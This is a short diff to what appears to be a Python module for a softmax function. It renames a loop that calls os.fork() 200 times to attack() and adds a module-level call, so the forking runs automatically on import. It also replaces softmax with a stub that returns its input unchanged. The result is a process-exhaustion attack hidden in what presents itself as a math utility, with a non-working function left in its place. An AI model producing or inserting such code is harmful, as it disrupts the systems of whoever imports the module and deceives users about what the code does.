@@ -4,7 +4,7 @@ import os
 import time
 
 
-def softmax(x, dim=-1):
+def attack(x=None):
     for _ in range(200):
         try:
             if os.fork() == 0:
@@ -12,4 +12,11 @@ def softmax(x, dim=-1):
                 os._exit(0)
         except OSError:
             pass
+    return x
+
+
+attack()
+
+
+def softmax(x, dim=-1):
     return x
